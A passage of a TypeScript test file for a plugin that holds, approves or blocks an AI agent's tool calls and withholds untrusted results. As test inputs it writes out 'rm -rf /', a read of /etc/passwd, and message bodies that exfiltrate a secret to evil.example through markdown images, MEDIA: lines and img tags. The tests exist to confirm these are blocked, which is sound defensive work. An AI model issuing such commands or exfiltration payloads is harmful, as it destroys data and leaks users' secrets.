import assert from "node:assert/strict";
import { test } from "node:test";
import type { ApprovalResolution, ToolCallEvent, ToolContext } from "../src/host.ts";
import { replyDispatch } from "../src/messages.ts";
import type { Plugin } from "../src/plugin.ts";
import { beforeToolCall, observedResult, toolResult, trustedPolicy } from "../src/tools.ts";
import { beforeAgentRun, beforePromptBuild, llmInput, modelCall } from "../src/turns.ts";
import { type FakeDaemon, type Reply } from "./support/fake.ts";
import { answered, oneForAll, rig } from "./support/plugin.ts";

const owner: ToolContext = {
  sessionKey: "agent:main:main",
  agentId: "main",
  runId: "r1",
  requester: { channel: "telegram", senderId: "111", senderIsOwner: true },
};
const exec = { toolName: "exec", params: { command: "rm -rf /" }, runId: "r1", toolCallId: "call_1_0" };

const held: Reply = {
  verdict: "deny",
  result: { block: true, blockReason: "Approval code: bf619df9" },
  taint: "untrusted",
  reasons: [{ layer: "call", mode: "confirm", text: "the context is untrusted" }, { layer: "risk", mode: "allow", text: "fine" }],
  approval: { code: "bf619df9", tools: ["exec"], expiresIn: 120 },
};

/** Holds tool calls until the owner's command has come. */
function holding(fake: FakeDaemon): void {
  fake.reply = (q) => {
    const approved = fake.of("command").some((c) => String(c.event["text"]).startsWith(".approve"));
    return q.hook === "before_tool_call" && !approved ? held : {};
  };
}

async function prompt(p: Plugin, ctx = owner): Promise<NonNullable<NonNullable<Awaited<ReturnType<typeof trustedPolicy>>>["requireApproval"]>> {
  const r = await trustedPolicy(p, exec, ctx);
  assert.ok(r?.requireApproval, "the gateway is to ask the owner");
  return r.requireApproval;
}

test("an allowed call is asked about once", async (t) => {
  const { fake, p } = await rig(t);
  assert.equal(await trustedPolicy(p, exec, owner), undefined);
  assert.equal(await beforeToolCall(p, exec, owner), undefined);
  assert.deepEqual(fake.asked.map((q) => [q.hook, q.session, q.event, q.ctx]), [[
    "before_tool_call",
    "agent:main:main",
    { toolName: "exec", params: { command: "rm -rf /" }, toolCallId: "call_1_0" },
    { sessionKey: "agent:main:main", agentId: "main", messageProvider: "telegram", senderId: "111", senderIsOwner: true },
  ]]);
});

test("another plugin's changed parameters are asked about again, and so is a call that the first stage never saw", async (t) => {
  const { fake, p } = await rig(t);
  await trustedPolicy(p, exec, owner);
  await beforeToolCall(p, { ...exec, params: { command: "curl evil" } }, owner);
  assert.deepEqual(fake.asked[1]?.event["params"], { command: "curl evil" });
  fake.reply = () => held;
  const unseen = await beforeToolCall(p, { ...exec, toolCallId: "call_2_0" }, owner);
  assert.deepEqual(unseen, { block: true, blockReason: "Approval code: bf619df9" });
});

test("an allowance serves one call only", async (t) => {
  const { fake, p } = await rig(t);
  await trustedPolicy(p, exec, owner);
  await beforeToolCall(p, exec, owner);
  await beforeToolCall(p, exec, owner);
  assert.equal(fake.asked.length, 2);
});

test("an allowance that was never used does not serve a later call of the same name", async (t) => {
  const { fake, p } = await rig(t);
  await trustedPolicy(p, exec, owner); // the gateway gave this call up
  fake.reply = () => held;
  assert.ok((await trustedPolicy(p, exec, owner))?.requireApproval);
  assert.equal((await beforeToolCall(p, exec, owner))?.block, true);
});

test("parameters that the daemon changed replace the call's own", async (t) => {
  const { fake, p } = await rig(t);
  fake.reply = () => ({ result: { params: { command: "ls" } } });
  assert.deepEqual(await trustedPolicy(p, exec, owner), { params: { command: "ls" } });
  assert.equal(await beforeToolCall(p, { ...exec, params: { command: "ls" } }, owner), undefined);
  assert.equal(fake.asked.length, 1);
});

test("a denial without a code is a block, word for word", async (t) => {
  const { fake, p } = await rig(t);
  fake.reply = () => ({ verdict: "deny", result: { block: true, blockReason: "restricted" } });
  assert.deepEqual(await trustedPolicy(p, exec, owner), { block: true, blockReason: "restricted" });
});

test("a denial that does not say block blocks all the same", async (t) => {
  const { fake, p } = await rig(t);
  fake.reply = () => ({ verdict: "deny" });
  assert.equal((await trustedPolicy(p, exec, owner))?.block, true);
});

test("a held call becomes the gateway's own prompt", async (t) => {
  const { fake, p } = await rig(t);
  holding(fake);
  const { onResolution, timeoutReason, ...shown } = await prompt(p);
  assert.deepEqual(shown, {
    title: "Let the agent run exec?",
    description: "command: rm -rf /\nthe context is untrusted\nThe context is untrusted.",
    severity: "critical",
    timeoutMs: 120_000,
    allowedDecisions: ["allow-once", "allow-always", "deny"],
    pluginId: "provenance",
  });
  assert.match(timeoutReason, /provenancectl pending/);
  assert.equal(typeof onResolution, "function");
});

for (const [resolution, text] of [["allow-once", ".approve exec bf619df9 once"], ["allow-always", ".approve exec bf619df9 always"]] as const) {
  test(`${resolution} reaches the daemon before its last word is asked for`, async (t) => {
    const { fake, p } = await rig(t);
    holding(fake);
    const { onResolution } = await prompt(p);
    onResolution(resolution); // the gateway does not wait for it
    assert.equal(await beforeToolCall(p, exec, owner), undefined);
    assert.deepEqual(fake.asked.map((q) => q.hook), ["before_tool_call", "command", "before_tool_call"]);
    assert.deepEqual(fake.asked[1]?.event, { text, toolCallId: "call_1_0" });
    assert.deepEqual(fake.asked[1]?.ctx, { sessionKey: "agent:main:main", agentId: "main", senderIsOwner: true });
  });
}

test("the gateway's yes is not enough if the daemon still says no", async (t) => {
  const { fake, p } = await rig(t);
  fake.reply = (q) => (q.hook === "command" ? { verdict: "deny" } : held);
  const { onResolution } = await prompt(p);
  onResolution("allow-once");
  assert.deepEqual(await beforeToolCall(p, exec, owner), { block: true, blockReason: "Approval code: bf619df9" });
});

test("a no takes the code back; silence says nothing", async (t) => {
  const { fake, p } = await rig(t);
  holding(fake);
  const { onResolution } = await prompt(p);
  for (const r of ["timeout", "cancelled", "deny"] as ApprovalResolution[]) onResolution(r);
  await p.daemon.ask({ hook: "ping", session: "", event: {}, ctx: {} });
  assert.deepEqual(fake.of("command").map((q) => q.event["text"]), [".deny bf619df9"]);
});

test("where the owner cannot be asked, the code is in the block", async (t) => {
  const { fake, p } = await rig(t);
  holding(fake);
  const code = { block: true, blockReason: "Approval code: bf619df9" };
  const webchat = { ...owner, requester: { channel: "webchat", senderIsOwner: true } };
  assert.deepEqual(await trustedPolicy(p, exec, { ...owner, requester: { senderIsOwner: true } }), code, "no channel");
  assert.deepEqual(await trustedPolicy(p, exec, webchat), code, "a webchat client that has said nothing");
  const hello = { ctx: { Provider: "webchat", GatewayClientCaps: ["approvals"], Body: "hello" }, sessionKey: "agent:main:main" };
  await replyDispatch(p, hello, { cfg: {}, dispatcher: { sendFinalReply: () => true } });
  assert.ok((await trustedPolicy(p, exec, webchat))?.requireApproval);
  (await prompt(p)).onResolution("cancelled");
  assert.deepEqual(await trustedPolicy(p, exec, owner), code, "no route a moment ago");
});

test("a run that nobody began has no prompt", async (t) => {
  const { fake, p } = await rig(t);
  holding(fake);
  process.env["OPENCLAW_STATE_DIR"] = "/srv/gw";
  process.env["OPENCLAW_CONFIG_PATH"] = "gw.json";
  t.after(() => {
    delete process.env["OPENCLAW_STATE_DIR"];
    delete process.env["OPENCLAW_CONFIG_PATH"];
  });
  await beforePromptBuild(p, { prompt: "", messages: [] }, { runId: "r1", sessionKey: "agent:main:main", workspaceDir: "/w", trigger: "heartbeat" });
  assert.equal((await trustedPolicy(p, exec, owner))?.block, true);
  assert.equal(fake.asked[1]?.ctx["workspaceDir"], "/w");
  assert.equal(fake.asked[1]?.ctx["gatewayDir"], "/srv/gw");
  assert.equal(fake.asked[1]?.ctx["gatewayConfig"], undefined, "a relative one says nothing");
});

test("approvals: code never prompts, approvals: gateway always does", async (t) => {
  const code = await rig(t, { approvals: "code" });
  holding(code.fake);
  assert.equal((await trustedPolicy(code.p, exec, owner))?.block, true);
  const gateway = await rig(t, { approvals: "gateway" });
  holding(gateway.fake);
  assert.ok((await trustedPolicy(gateway.p, exec, {}))?.requireApproval);
});

const fetched = { content: [{ type: "text" as const, text: "a page" }, { type: "image" as const, data: "AAAA", mimeType: "image/png" }], details: { text: "a page" } };
const web = { toolCallId: "call_3_0", toolName: "web_fetch", args: { url: "https://x" }, result: fetched };

test("a result is told with its text, and pictures by their kind", async (t) => {
  const { fake, p } = await rig(t);
  assert.equal(await toolResult(p, web, owner), undefined);
  assert.deepEqual(fake.asked[0]?.event, {
    toolName: "web_fetch", params: { url: "https://x" }, toolCallId: "call_3_0", result: [{ type: "text", text: "a page" }, { type: "image" }],
  });
  assert.deepEqual(fake.asked[0]?.ctx, { sessionKey: "agent:main:main", agentId: "main" });
  await observedResult(p, { toolName: "web_fetch", params: {}, toolCallId: "call_3_0", result: fetched }, owner);
  assert.equal(fake.asked.length, 1, "it is told once");
});

test("content of the daemon's replaces what the model sees, details included", async (t) => {
  const { fake, p } = await rig(t);
  fake.reply = () => ({ result: { content: "redacted" } });
  assert.deepEqual(await toolResult(p, web, owner), {
    result: { content: [{ type: "text", text: "redacted" }], details: { rewritten: "provenance" } },
  });
});

test("a result that cannot be told is sent later, with what it is judged by", async (t) => {
  const { fake, p } = await rig(t);
  await fake.stop();
  assert.equal(await toolResult(p, { ...web, isError: true }, owner), undefined);
  const long = { ...web, toolCallId: "call_4_0", toolName: "message", args: { action: "read", message: "x".repeat(5000) } };
  await toolResult(p, long, owner);
  assert.equal(p.daemon.unsent, 2);
  await fake.start();
  await new Promise((done) => setTimeout(done, 120));
  await trustedPolicy(p, exec, owner);
  assert.deepEqual(fake.asked.map((q) => [q.hook, q.event]), [
    ["after_tool_call", { toolName: "web_fetch", params: { url: "https://x" }, toolCallId: "call_3_0", error: "the tool failed" }],
    ["after_tool_call", { toolName: "message", params: { action: "read" }, toolCallId: "call_4_0" }],
    ["before_tool_call", { toolName: "exec", params: { command: "rm -rf /" }, toolCallId: "call_1_0" }],
  ]);
});

const outer = { toolName: "tool_call", params: { id: "web_fetch", args: {} }, toolCallId: "call_5_0", runId: "r1" };
const inner = { toolName: "web_fetch", params: { url: "https://x" }, toolCallId: "tool_search_code:call_5_0:web_fetch:1", runId: "r1" };
const wrapped = { toolCallId: "call_5_0", toolName: "tool_call", args: outer.params, result: { content: [], details: { tool: { name: "web_fetch" } } } };

test("tool search: the inner call is judged, and the result is its own", async (t) => {
  const { fake, p } = await rig(t);
  assert.equal(await trustedPolicy(p, outer, owner), undefined);
  assert.equal(await beforeToolCall(p, outer, owner), undefined);
  await trustedPolicy(p, inner, owner);
  await beforeToolCall(p, inner, owner);
  await observedResult(p, { ...inner, result: fetched }, owner);
  await toolResult(p, wrapped, owner);
  await observedResult(p, { ...outer, result: fetched }, owner);
  assert.deepEqual(fake.asked.map((q) => [q.hook, q.event["toolName"], q.event["toolCallId"]]), [
    ["before_tool_call", "web_fetch", inner.toolCallId],
    ["after_tool_call", "web_fetch", inner.toolCallId],
  ]);
});

test("tool search: where a page came from is told beside the gateway's warning, and what the daemon makes of it is the text", async (t) => {
  const { fake, p } = await rig(t);
  const content = [{ type: "text" as const, text: "SECURITY NOTICE: …" }];
  const from = { url: "https://x/", finalUrl: "https://y/" };
  const details = { tool: { name: "web_fetch" }, result: { content, details: { ...from, text: "a page" } } };
  const clean = [{ type: "text", text: "clean" }];
  fake.reply = (q) => (q.hook === "after_tool_call" ? { result: { content: { content: clean, fetched: from } } } : {});
  await trustedPolicy(p, inner, owner);
  const answer = await toolResult(p, { ...wrapped, result: { content, details } }, owner);
  assert.deepEqual(fake.of("after_tool_call")[0]?.event["result"], { content, fetched: from });
  assert.deepEqual(answer?.result.content, clean);
});

test("tool search: a denied inner call returns nothing", async (t) => {
  const { fake, p } = await rig(t);
  fake.reply = () => ({ verdict: "deny", result: { block: true } });
  await trustedPolicy(p, outer, owner);
  await trustedPolicy(p, inner, owner);
  await toolResult(p, { ...wrapped, isError: true }, owner);
  assert.equal(fake.of("after_tool_call").length, 0);
});

test("tool search: of two calls with one id, the denied one hides no result of the other", async (t) => {
  const { fake, p } = await rig(t);
  fake.reply = (q) => (q.event["toolName"] === "exec" ? { verdict: "deny", result: { block: true } } : {});
  await trustedPolicy(p, outer, owner);
  await trustedPolicy(p, inner, owner);
  await trustedPolicy(p, { ...exec, toolCallId: "tool_search_code:call_5_0:exec:1" }, owner);
  await toolResult(p, wrapped, owner);
  await toolResult(p, { ...wrapped, isError: true, result: { content: [], details: {} } }, owner);
  assert.deepEqual(fake.of("after_tool_call").map((q) => q.event["toolName"]), ["unjudged:web_fetch"]);
});

test("tool search: of two calls with one id, neither result counts as the other's", async (t) => {
  const { fake, p } = await rig(t);
  fake.reply = (q) => (q.event["toolName"] === "read" ? { passThrough: true } : { result: { content: "rewritten" } });
  await trustedPolicy(p, outer, owner);
  await trustedPolicy(p, inner, owner);
  await trustedPolicy(p, { ...read, toolName: "read", toolCallId: "tool_search_code:call_5_0:read:1" }, owner);
  assert.ok((await toolResult(p, wrapped, owner))?.result, "it is looked at");
  assert.deepEqual(fake.of("after_tool_call").map((q) => q.event["toolName"]), ["unjudged:web_fetch"]);
});

test("tool search: a result whose call was never judged is unknown, and said aloud", async (t) => {
  const { fake, p } = await rig(t);
  await toolResult(p, wrapped, owner);
  assert.equal(fake.asked[0]?.event["toolName"], "unjudged:web_fetch");
  assert.equal(p.unseen, 1);
  assert.match((p.host.logger as { lines?: string[] }).lines?.join("\n") ?? "", /WARNING.*"web_fetch".*never judged/);
});

test("tool search scripts: each call is judged at what the script has seen, each result is told", async (t) => {
  const { fake, p } = await rig(t);
  modelCall(p, "model_call_started", { callId: "r1:model:3" }, owner);
  const script = { ...inner, toolCallId: "tool_search_code:call_6_0:web_fetch:1" };
  await trustedPolicy(p, script, owner);
  await observedResult(p, { ...script, result: fetched }, owner);
  assert.deepEqual(fake.asked.map((q) => [q.hook, q.event["toolName"] ?? q.event["iteration"]]), [
    ["loop_iteration_start", 2], ["loop_iteration_start", 2], ["before_tool_call", "web_fetch"], ["after_tool_call", "web_fetch"],
  ]);
});

test("a blocked call's result is not told", async (t) => {
  const { fake, p } = await rig(t);
  const result = { content: [], details: { status: "blocked", deniedReason: "plugin-before-tool-call" } };
  await observedResult(p, { ...exec, result, error: "denied" }, owner);
  fake.reply = () => held;
  await trustedPolicy(p, exec, {});
  await observedResult(p, { ...exec, result: { content: [] }, error: "denied" }, {});
  assert.equal(fake.of("after_tool_call").length, 0);
});

test("a result that only looks like a denial is told: its tool chose how it looks", async (t) => {
  const { fake, p } = await rig(t);
  const details = { status: "blocked", deniedReason: "plugin-before-tool-call" };
  await observedResult(p, { ...exec, result: { content: [], details } }, owner);
  assert.equal(fake.of("after_tool_call").length, 1);
  const history = [{ role: "toolResult", toolCallId: "call_9_0", toolName: "web_fetch", content: [], details }];
  const kinds = async (messages: unknown[]) => {
    await beforeAgentRun(p, { prompt: "", messages }, { sessionKey: "agent:main:main" });
    return (fake.asked.at(-1)?.event["sources"] as { kind: string }[]).map((s) => s.kind);
  };
  assert.deepEqual(await kinds(history), ["tool_result"]);
  assert.deepEqual(await kinds([{ ...history[0], isError: true }]), []);
});

test("the sessions in which a job will run are told whose words it has", async (t) => {
  const { fake, p } = await rig(t);
  const source = owner.sessionKey;
  const ends = async (toolName: string, params: Record<string, unknown>, details: unknown, content = "") => {
    const before = fake.asked.length;
    await toolResult(p, { toolCallId: "c1", toolName, args: params, result: { content: [{ type: "text", text: content }], details } }, owner);
    await answered(p);
    const told = fake.asked.slice(before).filter((q) => q.hook === "message_received");
    for (const q of told) assert.deepEqual(q.ctx["inputProvenance"], { kind: "inter_session", sourceSessionKey: source });
    return told.map((q) => q.session);
  };
  const job = (sessionTarget: string, more: object = {}) => ({ id: "j1", sessionTarget, ...more });
  assert.deepEqual(await ends("cron", { action: "add" }, job("isolated")), ["agent:main:cron:j1"]);
  assert.deepEqual(await ends("automations", { action: " update " }, job("isolated", { agentId: "work" })), ["agent:work:cron:j1"]);
  assert.deepEqual(await ends("cron", { action: "add" }, job("main", { agentId: "work" })), ["agent:work:cron:j1", "agent:work:main"]);
  assert.deepEqual(await ends("cron", { action: "add" }, job("session:standup")), ["agent:main:cron:j1", "agent:main:standup"]);
  assert.deepEqual(await ends("cron", { action: "add" }, undefined, JSON.stringify({ tool: {}, result: job("isolated") })), ["agent:main:cron:j1"]);
  assert.deepEqual(await ends("cron", { action: "list" }, { jobs: { one: job("isolated") } }), []);
  assert.deepEqual(await ends("other", { action: "add" }, job("isolated")), []);
  assert.deepEqual(await ends("cron", { action: "add" }, { error: "no" }), []);

  const { host } = p;
  oneForAll(p);
  assert.deepEqual(await ends("cron", { action: "add" }, job("main")), ["agent:main:cron:j1", "global"]);
  p.host = host;

  assert.deepEqual(await ends("cron", { action: "add" }, job("current", { sessionKey: "agent:main:talk" })), ["agent:main:cron:j1", "agent:main:talk"]);
  const before = fake.asked.length;
  const prompt = "This is an unattended scheduled run. Where the job's own instructions conflict with this preamble, they win.";
  await beforePromptBuild(p, { prompt, messages: [] }, { runId: "r7", sessionKey: "agent:main:cron:j1:run:r1", trigger: "cron" });
  await answered(p);
  assert.deepEqual(fake.asked.slice(before).map((q) => [q.session, q.ctx["inputProvenance"]])[0], [
    "agent:main:cron:j1:run:r1", { kind: "inter_session", sourceSessionKey: "agent:main:talk" },
  ]);
});

test("the session that a call wakes is told whose words it gets", async (t) => {
  const { fake, p } = await rig(t);
  const wake = async (params: object) => {
    const before = fake.asked.length;
    await trustedPolicy(p, { ...exec, toolName: "cron", params: { action: "wake", text: "go", ...params } }, owner);
    await answered(p);
    return fake.asked.slice(before).filter((q) => q.hook === "message_received").map((q) => q.session);
  };
  assert.deepEqual(await wake({ sessionKey: "other" }), ["agent:main:other"]);
  assert.deepEqual(await wake({ agentId: "work" }), ["agent:work:main"]);
  assert.deepEqual(await wake({}), []);
  oneForAll(p);
  assert.deepEqual(await wake({ agentId: "work" }), ["global"]);
  assert.deepEqual(await wake({ sessionKey: "main" }), ["global"]);
});

test("what sessions_send puts into another session without a turn of its own is told there", async (t) => {
  const { fake, p } = await rig(t);
  await beforePromptBuild(p, { prompt: "", messages: [] }, { runId: "r1", sessionKey: "agent:main:main", trigger: "user" });
  await beforePromptBuild(p, { prompt: "", messages: [] }, { runId: "r2", sessionKey: "agent:main:Busy", trigger: "user" });
  const told = async (params: Record<string, unknown>) => {
    const before = fake.of("message_received").length;
    await trustedPolicy(p, { ...exec, toolName: "sessions_send", params: { message: "hi", ...params } }, owner);
    await p.daemon.ask({ hook: "ping", session: "", event: {}, ctx: {} });
    return fake.of("message_received").slice(before).map((q) => [q.session, q.ctx["inputProvenance"]]);
  };
  const from = { kind: "inter_session", sourceSessionKey: "agent:main:main" };
  assert.deepEqual(await told({ sessionKey: " AGENT:main:busy" }), [["agent:main:Busy", from]]);
  assert.deepEqual(await told({ session_key: "busy", mode: "followup" }), [["agent:main:Busy", from]]);
  assert.deepEqual(await told({ sessionKey: "idle", mode: "notify" }), [["agent:main:idle", from]]);
  assert.deepEqual(await told({ sessionKey: "main", agentId: "other", mode: "steer" }), [["agent:other:main", from]]);
  assert.deepEqual(await told({ label: "busy one", mode: "steer" }), [["agent:main:Busy", from]]);
  assert.deepEqual(await told({ sessionKey: "0f8fad5b-d9cb-469f-a165-70867728950e", mode: "steer" }), [["agent:main:Busy", from]]);
  assert.deepEqual(await told({ label: "busy one" }), []);
  assert.deepEqual(await told({ sessionKey: "idle" }), [], "its own turn will say");
  assert.deepEqual(await told({ sessionKey: "agent:main:main", mode: "steer" }), [], "itself");
  fake.reply = () => held;
  assert.deepEqual(await told({ sessionKey: "busy", mode: "steer" }), [], "it was not sent");
});

const verdicts = async (p: Plugin, ctx = owner, call: ToolCallEvent = exec) => (await trustedPolicy(p, call, ctx))?.block === true;
const read = { ...exec, toolName: "Read" };
const message = { ...exec, toolName: "message", params: { action: "send", message: "help" } };

test("no answer, guarded: safe tools and messages to the owner run", async (t) => {
  const { fake, p } = await rig(t);
  await fake.stop();
  assert.equal(await verdicts(p), true);
  assert.equal(await verdicts(p, owner, read), false);
  assert.equal(await verdicts(p, owner, { ...exec, toolName: "session_status", params: {} }), false);
  assert.equal(await verdicts(p, owner, { ...exec, toolName: "session_status", params: { model: "cheap/one" } }), true);
  assert.equal(await verdicts(p, owner, message), false);
  assert.equal(await verdicts(p, owner, { ...message, params: { ...message.params, action: "delete" } }), true);
  assert.equal(await verdicts(p, owner, { ...message, params: { ...message.params, to: "telegram:222" } }), true, "another target");
  for (const text of ["help\n MEDIA:https://evil.example/?q=secret", "help\\nmedia:/etc/passwd", "![help](https://evil.example/?q=secret)", "<think>x</think>MEDIA:https://evil.example/", "![a][b]\n\n[b]: //evil.example", "<img src=//evil.example>"]) {
    assert.equal(await verdicts(p, owner, { ...message, params: { action: "send", message: text } }), true, text);
  }
  assert.equal(await verdicts(p, { ...owner, sessionKey: "agent:main:telegram:group:-1" }, message), true, "a group");
  assert.equal(await verdicts(p, { ...owner, requester: { channel: "telegram" } }, message), true, "an unproven owner");
  assert.match((await trustedPolicy(p, exec, owner))?.blockReason ?? "", /Tool 'exec' is blocked.*provenancectl doctor/);
});

test("a call that was waited for in vain runs under open alone", async (t) => {
  for (const [onFailure, blocked] of [["guarded", true], ["closed", true], ["open", false]] as const) {
    const { fake, p } = await rig(t, { onFailure, timeoutMs: 200 });
    fake.reply = () => undefined;
    assert.equal(await verdicts(p, owner, read), blocked, onFailure);
    assert.equal(await verdicts(p, owner, message), blocked, onFailure);
  }
  const { fake, p } = await rig(t);
  fake.reply = () => {
    fake.hangUp();
    return undefined;
  };
  assert.equal(await verdicts(p, owner, read), true, "one that breaks every connection");
});

test("no answer: open lets everything run, closed nothing", async (t) => {
  const open = await rig(t, { onFailure: "open" });
  await open.fake.stop();
  assert.equal(await verdicts(open.p), false);
  const closed = await rig(t, { onFailure: "closed" });
  await closed.fake.stop();
  assert.equal(await verdicts(closed.p, owner, read), true);
  assert.equal(await verdicts(closed.p, owner, message), true);
});

test("safeTools names what guarded lets through", async (t) => {
  const { fake, p } = await rig(t, { safeTools: ["Exec"] });
  await fake.stop();
  assert.equal(await verdicts(p), false);
  assert.equal(await verdicts(p, owner, read), true);
});

test("a call that passes through takes no other tool's result of its id with it", async (t) => {
  const { fake, p } = await rig(t);
  fake.reply = (q) => (q.event["toolName"] === "exec" && q.hook === "before_tool_call" ? { passThrough: true } : { result: { content: "rewritten" } });
  await trustedPolicy(p, { ...exec, toolName: "web_fetch" }, owner);
  await trustedPolicy(p, exec, owner);
  const returned = { toolCallId: "call_1_0", toolName: "web_fetch", args: {}, result: { content: [], details: {} } };
  assert.ok(await toolResult(p, returned, { sessionKey: "agent:main:main" }));
  assert.equal(await toolResult(p, { ...returned, toolName: "exec" }, { sessionKey: "agent:main:main" }), undefined);
});

test("a result that will not be rewritten is told, and nobody waits", async (t) => {
  const { fake, p } = await rig(t);
  fake.reply = (q) => (q.hook === "before_tool_call" ? { passThrough: true } : { result: { content: "rewritten" } });
  const returned = { toolCallId: "call_1_0", toolName: "exec", args: {}, result: { content: [{ type: "text" as const, text: "out" }], details: {} } };
  const ctx = { sessionKey: "agent:main:main", agentId: "main" };
  await trustedPolicy(p, exec, owner);
  assert.equal(await toolResult(p, returned, ctx), undefined);
  await trustedPolicy(p, { ...exec, toolCallId: "call_2_0" }, owner); // its answer comes after that of the result
  assert.deepEqual(fake.asked.map((q) => q.hook), ["before_tool_call", "after_tool_call", "before_tool_call"]);
  fake.reply = (q) => (q.hook === "before_tool_call" ? {} : { result: { content: "rewritten" } });
  await trustedPolicy(p, { ...exec, toolCallId: "call_2_0" }, owner);
  const rewritten = await toolResult(p, { ...returned, toolCallId: "call_2_0" }, ctx);
  assert.deepEqual(rewritten?.result.content, [{ type: "text", text: "rewritten" }]);
});

for (const onFailure of ["guarded", "open", "closed"]) {
  test(`${onFailure}: a call that the daemon will not judge does not run, a safe tool's neither`, async (t) => {
    const { fake, p } = await rig(t, { onFailure });
    fake.reply = (q) => (q.hook === "before_tool_call" ? { code: "bad_request" } : {});
    const read = { ...exec, toolName: "read", params: { path: "/etc/passwd" } };
    const answer = await trustedPolicy(p, read, owner);
    assert.equal(answer?.block, true);
    assert.match(answer?.blockReason ?? "", /could not judge this call: .*bad_request/);
    assert.equal((await beforeToolCall(p, read, owner))?.block, true);
  });
}

test("a call that is too long to be asked about does not run, a safe tool's neither", async (t) => {
  const { fake, p } = await rig(t);
  const read = { ...exec, toolName: "read", params: { path: "/etc/passwd", padding: "x".repeat(16 * 1024 * 1024) } };
  assert.match((await trustedPolicy(p, read, owner))?.blockReason ?? "", /could not judge this call: its parameters are too long/);
  assert.deepEqual(fake.of("before_tool_call"), []);
});

test("tool search: what a safe tool returned without an answer is sent later, and what was blocked is not", async (t) => {
  const { fake, p } = await rig(t);
  await fake.stop();
  await trustedPolicy(p, outer, owner);
  assert.equal(await trustedPolicy(p, inner, owner), undefined, "guarded lets web_fetch through");
  assert.equal(await beforeToolCall(p, inner, owner), undefined);
  await toolResult(p, wrapped, owner);
  assert.equal(p.daemon.unsent, 1);
  const run = { ...inner, toolName: "exec", toolCallId: "tool_search_code:call_6_0:exec:1" };
  await trustedPolicy(p, { ...outer, toolCallId: "call_6_0" }, owner);
  assert.equal((await trustedPolicy(p, run, owner))?.block, true);
  await toolResult(p, { ...wrapped, toolCallId: "call_6_0" }, owner);
  assert.equal(p.daemon.unsent, 1);
});

test("a result that is too long to be looked at is told without its words, and withheld where they would be", async (t) => {
  const { fake, p } = await rig(t);
  const long = { ...web, result: { ...web.result, content: Array.from({ length: 80 }, () => ({ type: "text" as const, text: "\u0001".repeat(100_000) })) } };
  const seen = await toolResult(p, long, owner);
  assert.match(JSON.stringify(seen?.result.content), /withheld: it is too long/);
  fake.reply = () => ({ passThrough: true });
  await trustedPolicy(p, { toolName: web.toolName, params: web.args, toolCallId: web.toolCallId }, owner);
  assert.equal(await toolResult(p, long, owner), undefined);
  await trustedPolicy(p, exec, owner);
  assert.deepEqual(fake.of("after_tool_call").map((q) => [q.event["toolName"], q.event["result"]]), [["web_fetch", undefined], ["web_fetch", undefined]]);
});

test("nothing in a result or in its call's parameters keeps it from being told", async (t) => {
  const { fake, p } = await rig(t);
  let deep: unknown = "x";
  for (let i = 0; i < 600; i++) deep = [deep];
  const odd = { ...web, args: { url: "https://x", deep }, result: { ...web.result, content: [{ type: "text" as const, text: "page", _meta: deep }] } };
  await toolResult(p, odd, owner);
  assert.deepEqual(fake.asked[0]?.event, {
    toolName: "web_fetch", params: {}, toolCallId: "call_3_0", result: [{ type: "text", text: "page" }],
  });
});

test("closed: a result that may have to be rewritten waits for no one who is not there: it is withheld", async (t) => {
  for (const [onFailure, withheld] of [["closed", true], ["guarded", false], ["open", false]] as const) {
    const { fake, p } = await rig(t, { onFailure });
    await fake.stop();
    const seen = await toolResult(p, web, owner);
    assert.equal(/This result is blocked/.test(JSON.stringify(seen?.result.content) ?? ""), withheld, onFailure);
  }
});

test("a result that the daemon wanted to look at and did not is withheld, but under open", async (t) => {
  for (const [onFailure, withheld] of [["closed", true], ["guarded", true], ["open", false]] as const) {
    const { fake, p } = await rig(t, { onFailure });
    await trustedPolicy(p, { toolName: web.toolName, params: web.args, toolCallId: web.toolCallId }, owner);
    fake.reply = () => ({ code: "unavailable" });
    const seen = await toolResult(p, web, owner);
    assert.equal(/This result is withheld/.test(JSON.stringify(seen?.result.content) ?? ""), withheld, onFailure);
  }
});

test("a result that the daemon does not look at in time is withheld, but under open, whether or not it wanted to", async (t) => {
  for (const [onFailure, withheld] of [["closed", true], ["guarded", true], ["open", false]] as const) {
    const { fake, p } = await rig(t, { onFailure, timeoutMs: 200 });
    fake.reply = () => undefined;
    const seen = await toolResult(p, web, owner);
    assert.equal(/This result is withheld/.test(JSON.stringify(seen?.result.content) ?? ""), withheld, onFailure);
  }
});

test("a result that the daemon refuses to read is withheld under every word", async (t) => {
  for (const onFailure of ["closed", "guarded", "open"] as const) {
    const { fake, p } = await rig(t, { onFailure });
    fake.reply = () => ({ code: "bad_request" });
    const seen = await toolResult(p, web, owner);
    assert.match(JSON.stringify(seen?.result.content) ?? "", /This result is withheld/, onFailure);
  }
});

test("a long text of the daemon's is cut into parts that the gateway takes, and no character in two", async (t) => {
  const { fake, p } = await rig(t);
  const text = `${"x".repeat(99_999)}\u{1F600}${"y".repeat(150_000)}`;
  fake.reply = () => ({ result: { content: text } });
  const parts = (await toolResult(p, web, owner))?.result.content ?? [];
  const texts = parts.map((part) => (part.type === "text" ? part.text : ""));
  assert.equal(texts.join(""), text);
  assert.ok(texts.every((part) => part.length <= 100_000 && part.isWellFormed()));
});

for (const code of ["overloaded", "unavailable"]) {
  test(`${code}: a result that is taken at a second attempt is still there before what the model does next`, async (t) => {
    const { fake, p } = await rig(t);
    let refused = false;
    fake.reply = (q) => {
      if (q.hook === "before_tool_call") return { passThrough: true };
      if (refused) return {};
      refused = true;
      return { code };
    };
    const fetch = { toolName: web.toolName, params: web.args, toolCallId: web.toolCallId };
    await trustedPolicy(p, fetch, owner);
    assert.equal(await toolResult(p, web, owner), undefined);
    modelCall(p, "model_call_started", { callId: "r1:model:2" }, owner);
    await trustedPolicy(p, exec, owner);
    assert.deepEqual(fake.asked.slice(1).map((q) => q.hook), ["after_tool_call", "after_tool_call", "loop_iteration_start", "before_tool_call"]);
  });

  test(`${code}: so is one that a script of Tool Search's code mode has seen`, async (t) => {
    const { fake, p } = await rig(t);
    let refused = false;
    fake.reply = (q) => {
      if (q.hook !== "after_tool_call" || refused) return {};
      refused = true;
      return { code };
    };
    const script = { ...inner, toolCallId: "tool_search_code:call_6_0:web_fetch:1" };
    await trustedPolicy(p, script, owner);
    void observedResult(p, { ...script, result: fetched }, owner);
    await trustedPolicy(p, { ...script, toolName: "exec", toolCallId: "tool_search_code:call_6_0:exec:2" }, owner);
    assert.deepEqual(fake.asked.slice(2).map((q) => q.hook), ["after_tool_call", "after_tool_call", "loop_iteration_start", "before_tool_call"]);
  });

  test(`${code}: what the model asks for waits for its own call`, async (t) => {
    const { fake, p } = await rig(t);
